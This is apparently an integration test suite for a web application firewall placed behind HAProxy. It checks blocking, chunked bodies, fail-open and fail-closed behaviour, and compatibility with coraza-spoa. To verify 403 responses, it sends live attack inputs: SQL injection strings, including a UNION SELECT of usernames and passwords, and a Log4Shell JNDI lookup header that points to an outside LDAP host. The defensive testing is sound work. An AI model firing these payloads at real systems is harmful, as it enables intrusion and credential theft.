// packaging/gateways/haproxy as it is, addresses and folder replaced, in Debian's HAProxy in front of a real engine; and the
// arguments and rules of coraza-spoa's published configuration.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';

import { startUpstream } from './support/gateway.mjs';
import { Program, freePort, run, tempFolder, until } from './support/processes.mjs';
import { shipped } from './support/shipped.mjs';
import { Wafd, request } from './support/wafd.mjs';

const ATTACK = '/?id=1%27%20OR%20%271%27=%271';
const VALUE = encodeURIComponent("1' UNION SELECT username, password FROM users-- -");
const FORM = { 'Content-Type': 'application/x-www-form-urlencoded' };
const CLOSED = '#http-request return status 503';

const CORAZA = `[coraza]
spoe-agent coraza-agent
    groups      coraza-req
    option      var-prefix      coraza
    option      set-on-error    error
    timeout     hello           2s
    timeout     idle            2m
    timeout     processing      20s
    use-backend coraza-spoa
spoe-message coraza-req
    args app=var(txn.coraza.app) src-ip=src src-port=src_port dst-ip=dst dst-port=dst_port method=method path=path query=query version=req.ver headers=req.hdrs body=req.body exportRuleIDs=bool(false)
spoe-group coraza-req
    messages coraza-req
`;
const CORAZA_RULES = `
    http-request set-var(txn.coraza.app) str(sample_app)
    filter spoe engine coraza config SPOE
    http-request send-spoe-group coraza coraza-req
    http-request deny deny_status 403 hdr waf-block "request" hdr waf-id %[var(txn.coraza.id)] if { var(txn.coraza.action) -m str deny }
    http-request deny deny_status 500 if { var(txn.coraza.error) -m int gt 0 }
`;

function written(folder, name, changes) {
  const file = path.join(folder, name);
  fs.writeFileSync(file, shipped(`haproxy/${name}`, changes));
  return file;
}

async function launch(file, port) {
  const program = new Program('/usr/sbin/haproxy', ['-db', '-f', file]);
  program.url = `http://127.0.0.1:${port}`;
  await program.ready('answers', async () => (await request(`${program.url}/-start`)).status > 0);
  return program;
}

// Time decides nothing here, because the machine may be busy: the timeouts of spoe.cfg are long.
async function startHaproxy(upstream, spop, { rules = {}, agent = {} } = {}) {
  const port = await freePort();
  const folder = tempFolder('haproxy');
  const spoe = written(folder, 'spoe.cfg', { 'timeout hello 500ms': 'timeout hello 20s', 'timeout processing 1s': 'timeout processing 20s', ...agent });
  const addresses = { '127.0.0.1:8080': `127.0.0.1:${port}`, '127.0.0.1:8081': `127.0.0.1:${upstream.port}`, '127.0.0.1:8702': `127.0.0.1:${spop}` };
  return launch(written(folder, 'haproxy.cfg', { '/etc/haproxy/spoe.cfg': spoe, ...addresses, ...rules }), port);
}

async function listener(wafd) {
  const { listeners } = await wafd.api('GET', '/status');
  return listeners.find((one) => one.name === 'spop');
}

describe('HAProxy', () => {
  let upstream;
  let wafd;
  let spop;
  let haproxy;
  before(async () => {
    upstream = await startUpstream();
    spop = await freePort();
    wafd = await Wafd.start({ 'log.events': 'denied', 'ingest.budget_ms': 20000, 'ingest.spop.listen': `127.0.0.1:${spop}` });
    haproxy = await startHaproxy(upstream, spop);
  });
  after(async () => {
    await haproxy?.stop();
    await wafd?.stop();
    await upstream?.stop();
  });

  test('a query, a header and a body are blocked with JSON, and the event says who asked', async () => {
    const blocked = await request(haproxy.url + ATTACK, { headers: { 'X-Request-Id': 'of-the-client', 'X-Forwarded-For': '198.51.100.9' } });
    assert.deepEqual([blocked.status, blocked.headers['content-type']], [403, 'application/json']);
    assert.equal(blocked.json().success, false);
    assert.match(await wafd.requestId(blocked.json().event_id), /^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/);
    const { record } = await wafd.event(blocked.json().event_id);
    assert.deepEqual([record.action, record.src_ip, record.socket_ip, record.scheme], ['deny', '127.0.0.1', '127.0.0.1', 'http']);
    assert.equal((await request(haproxy.url, { headers: { 'X-A': '${jndi:ldap://198.51.100.1/a}' } })).status, 403);
    for (const body of [`q=${VALUE}`, `${'a='.padEnd(40 * 1024, 'x')}&q=${VALUE}`]) {
      for (const framing of [{ 'Content-Length': body.length }, { 'Transfer-Encoding': 'chunked' }]) {
        assert.equal((await request(haproxy.url, { method: 'POST', headers: { ...FORM, ...framing }, body })).status, 403, `${body.length} ${Object.keys(framing)}`);
      }
    }
  });

  test('what is clean arrives as it was, also beside others on one connection', async () => {
    const body = 'a='.padEnd(40 * 1024, 'x');
    const answer = await request(`${haproxy.url}/x?id=1`, { method: 'POST', headers: { ...FORM, 'Content-Length': body.length }, body });
    assert.deepEqual([answer.status, answer.json()], [200, { method: 'POST', url: '/x?id=1', bytes: body.length }]);
    const agent = new http.Agent({ maxSockets: 40 });
    const all = await Promise.all(Array.from({ length: 200 }, (_, i) => request(haproxy.url + (i % 2 ? ATTACK : `/?n=${i}`), { agent })));
    assert.deepEqual(all.map(({ status }) => status), all.map((_, i) => (i % 2 ? 403 : 200)));
    assert.equal(new Set(all.filter((_, i) => i % 2).map((one) => one.json().event_id)).size, 100);
    agent.destroy();
  });

  test('a body that HAProxy does not hold whole is said to be cut, with a length or without', async () => {
    const body = `q=${VALUE}&a=`.padEnd(200 * 1024, 'x');
    for (const framing of [{ 'Content-Length': body.length }, { 'Transfer-Encoding': 'chunked' }]) {
      const answer = await request(haproxy.url, { method: 'POST', headers: { ...FORM, ...framing }, body });
      assert.equal(answer.status, 403);
      const { record } = await wafd.event(answer.json().event_id);
      assert.equal(record.req_http_body_is_truncate, 1, Object.keys(framing)[0]);
    }
    // Nobody sees the bytes behind the buffer, so the request is denied, but for sites that say otherwise.
    const clean = 'a='.padEnd(200 * 1024, 'x');
    const post = (host) => request(haproxy.url, { method: 'POST', headers: { ...FORM, Host: host, 'Content-Length': clean.length }, body: clean });
    assert.equal((await post('other.example')).status, 403);
    await wafd.api('POST', '/sites', { name: 'large', hosts: ['large.example'], on_oversize: 'pass' });
    assert.deepEqual((await post('large.example')).json().bytes, clean.length);
  });

  test("a site's own block page is what the client gets, and the site is found by the host", async () => {
    for (const [host, block_body, type] of [['html.example', '<h1 class="a">%[src] {event_id}</h1>', 'text/html; charset=utf-8'], ['json.example', '{"id": "{event_id}"}', 'application/json']]) {
      await wafd.api('POST', '/sites', { name: host, hosts: [host], block_body });
      const answer = await until(`${host} is in force`, async () => {
        const one = await request(haproxy.url + ATTACK, { headers: { Host: host } });
        return !one.text.includes('success') && one;
      });
      const id = /[0-9a-f]{32}/.exec(answer.text)[0];
      assert.deepEqual([answer.status, answer.headers['content-type'], answer.text], [403, type, block_body.replace('{event_id}', id)]);
      assert.equal((await wafd.event(id)).record.action, 'deny');
    }
  });

  test('a chunked body is waited for, whatever its chunks', async () => {
    const { hostname, port } = new URL(haproxy.url);
    const socket = net.connect(Number(port), hostname);
    let answer = '';
    socket.on('data', (data) => (answer += data));
    socket.write('POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n2\r\na=\r\n');
    // Meanwhile another request goes through and back: the first chunk has been read.
    await request(`${haproxy.url}/?id=1`);
    assert.equal(answer, '');
    const rest = `x&q=${VALUE}`;
    socket.write(`${rest.length.toString(16)}\r\n${rest}\r\n`);
    await request(`${haproxy.url}/?id=2`);
    assert.equal(answer, '');
    socket.write('0\r\n\r\n');
    await until('an answer', () => answer.startsWith('HTTP/1.1 '));
    assert.match(answer, /^HTTP\/1\.1 403 /);
    socket.destroy();
  });

  test('the status shows the listener, and what it refused by reason', async () => {
    const garbage = net.connect(spop, '127.0.0.1');
    garbage.end('GET / HTTP/1.1\r\n\r\n');
    await new Promise((resolve) => garbage.on('close', resolve).resume());
    const shown = await listener(wafd);
    assert.ok(shown.requests > 0 && shown.enforcing, JSON.stringify(shown));
    assert.equal(JSON.stringify(shown.refused).includes('frame_too_big'), true, JSON.stringify(shown));
  });

  test('behind a proxy that is trusted, the client is who its header says, and the peer is told besides', async () => {
    const line = '#http-request set-src hdr_ip(x-forwarded-for,-1) if { src 10.0.0.0/8 }';
    for (const [trusted, expected] of [['127.0.0.0/8', '198.51.100.9'], ['10.0.0.0/8', '127.0.0.1']]) {
      const behind = await startHaproxy(upstream, spop, { rules: { [line]: line.slice(1).replace('10.0.0.0/8', trusted) } });
      const answer = await request(behind.url + ATTACK, { headers: { 'X-Forwarded-For': '203.0.113.1, 198.51.100.9' } });
      const { record } = await wafd.event(answer.json().event_id);
      assert.deepEqual([record.src_ip, record.socket_ip], [expected, '127.0.0.1']);
      await behind.stop();
    }
  });

  test('a request that goes out in many frames is judged whole', async () => {
    const pieces = await startHaproxy(upstream, spop, { agent: { 'use-backend wafd': 'max-frame-size 4096\n    use-backend wafd' } });
    const body = `${'a='.padEnd(40 * 1024, 'x')}&q=${VALUE}`;
    const headers = { ...FORM, 'Content-Length': body.length };
    assert.equal((await request(pieces.url, { method: 'POST', headers, body })).status, 403);
    assert.equal((await request(pieces.url, { method: 'POST', headers, body: body.replace(VALUE, 'x'.repeat(VALUE.length)) })).status, 200);
    await pieces.stop();
  });

  test('wafd down: passes, or, failing closed, 503, until the health check sees it again', async () => {
    const dead = await freePort();
    const open = await startHaproxy(upstream, dead);
    assert.equal((await request(open.url + ATTACK)).status, 200);
    await open.stop();
    const closed = await startHaproxy(upstream, dead, { rules: { [CLOSED]: CLOSED.slice(1) } });
    assert.equal((await request(`${closed.url}/`)).status, 503);
    await until('the health check fails', () => /wafd\/wafd1 is DOWN/.test(closed.stderr));
    const back = await Wafd.start({ 'ingest.budget_ms': 20000, 'ingest.spop.listen': `127.0.0.1:${dead}` });
    await until('the health check succeeds', () => /wafd\/wafd1 is UP/.test(closed.stderr));
    assert.equal((await request(`${closed.url}/`)).status, 200);
    assert.equal((await request(closed.url + ATTACK)).status, 403);
    await closed.stop();
    await back.stop();
  });

  test('the configuration of coraza-spoa works', async () => {
    const folder = tempFolder('coraza');
    const port = await freePort();
    fs.writeFileSync(path.join(folder, 'coraza.cfg'), CORAZA);
    const file = path.join(folder, 'haproxy.cfg');
    fs.writeFileSync(file, `defaults\n    mode http\n    timeout client 1m\n    timeout server 1m\n    timeout connect 10s\nfrontend default\n    bind 127.0.0.1:${port}\n    option http-buffer-request
${CORAZA_RULES.replace('SPOE', path.join(folder, 'coraza.cfg'))}    use_backend shop\nbackend shop\n    server shop 127.0.0.1:${upstream.port}
backend coraza-spoa\n    mode tcp\n    server coraza_spoa 127.0.0.1:${spop}\n`);
    const checked = await run('/usr/sbin/haproxy', ['-c', '-f', file]);
    assert.equal(checked.code, 0, checked.stderr);
    const coraza = await launch(file, port);
    const blocked = await until('a block', async () => {
      const answer = await request(coraza.url + ATTACK);
      return answer.status === 403 && answer;
    });
    assert.equal(blocked.headers['waf-block'], 'request');
    const { record } = await wafd.event(blocked.headers['waf-id']);
    assert.equal(record.action, 'deny');
    const body = `q=${VALUE}`;
    assert.equal((await request(coraza.url, { method: 'POST', headers: { ...FORM, 'Content-Length': body.length }, body })).status, 403);
    await until('a pass', async () => (await request(`${coraza.url}/?id=1`)).status === 200);
    await coraza.stop();
  });
});
